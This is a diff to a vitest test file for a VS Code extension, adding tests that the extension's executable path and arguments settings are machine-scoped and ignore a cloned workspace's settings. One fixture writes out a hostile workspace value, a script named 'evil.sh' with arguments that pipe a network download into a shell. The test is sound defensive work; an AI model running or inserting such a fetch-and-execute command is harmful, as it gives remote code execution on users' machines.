@@ -1,4 +1,5 @@
 import fs from "node:fs";
+import Module, { createRequire } from "node:module";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { parseTree, type MessageNode } from "../../src/repo/textproto.js";
@@ -40,7 +41,6 @@ describe("the VS Code extension", () => {
       expect(g.scopeName).toBe(grammar.scopeName);
     }
     expect(pkg.contributes.languages[0].filenames).toContain("config.pbtxt");
-    expect(fs.readFileSync(path.join(EXT, pkg.main), "utf8")).toMatch(/\[\.\.\.settings\.get\("args", \[\]\), "lsp"\]/);
   });
 
   it("has a grammar whose every pattern compiles, and that colours the field names the parser reads", () => {
@@ -56,5 +56,75 @@ describe("the VS Code extension", () => {
       const coloured = [...code.matchAll(field)].map((m) => m[1]);
       expect(coloured, model).toEqual(fieldNames(parseTree(text).root));
     }
+  });
+});
+
+/**
+ * Loads the extension with a stand-in for VS Code's API (it exists only inside VS Code) whose
+ * settings hold `values` per level, merged as VS Code's `get` merges them (the workspace's win);
+ * returns what the extension asked the language client to start.
+ */
+function startedWith(values: { global?: Record<string, unknown>; workspace?: Record<string, unknown> }) {
+  let started: { command: string; args: string[] } | undefined;
+  const vscode = {
+    workspace: {
+      getConfiguration: () => ({
+        get: (key: string, fallback: unknown) => values.workspace?.[key] ?? values.global?.[key] ?? fallback,
+        inspect: (key: string) => ({
+          key: `triton-dev.${key}`,
+          globalValue: values.global?.[key],
+          workspaceValue: values.workspace?.[key],
+        }),
+      }),
+      createFileSystemWatcher: () => ({ dispose() {} }),
+    },
+    window: { showErrorMessage() {} },
+  };
+  const languageClient = {
+    TransportKind: { stdio: 0 },
+    LanguageClient: class {
+      constructor(_id: string, _name: string, server: { command: string; args: string[] }) {
+        started = server;
+      }
+      start() {
+        return Promise.resolve();
+      }
+      stop() {
+        return Promise.resolve();
+      }
+    },
+  };
+  const file = path.join(EXT, pkg.main);
+  const loader = Module as unknown as { _load: (request: string, ...rest: unknown[]) => unknown };
+  const load = loader._load;
+  loader._load = (request: string, ...rest: unknown[]) =>
+    request === "vscode" ? vscode : request === "vscode-languageclient/node" ? languageClient : load(request, ...rest);
+  try {
+    const require = createRequire(file);
+    delete require.cache[file];
+    const ext = require(file) as { activate: (ctx: { subscriptions: unknown[] }) => Promise<unknown> };
+    void ext.activate({ subscriptions: [] });
+  } finally {
+    loader._load = load;
+  }
+  return started;
+}
+
+describe("the VS Code extension's executable settings", () => {
+  it("are machine-scoped, so a workspace's .vscode/settings.json cannot set them", () => {
+    const props = pkg.contributes.configuration.properties;
+    expect(props["triton-dev.path"].scope).toBe("machine");
+    expect(props["triton-dev.args"].scope).toBe("machine");
+  });
+
+  it("start what the user's settings say, and never what a workspace says", () => {
+    expect(startedWith({})).toEqual(expect.objectContaining({ command: "triton-dev", args: ["lsp"] }));
+    expect(startedWith({ global: { path: "node", args: ["/opt/td/dist/cli/main.js"] } })).toEqual(
+      expect.objectContaining({ command: "node", args: ["/opt/td/dist/cli/main.js", "lsp"] }),
+    );
+    // A cloned repository's own settings, pointing at a script in it.
+    expect(
+      startedWith({ global: { path: "node" }, workspace: { path: "./tools/evil.sh", args: ["-c", "curl x | sh"] } }),
+    ).toEqual(expect.objectContaining({ command: "node", args: ["lsp"] }));
   });
 });
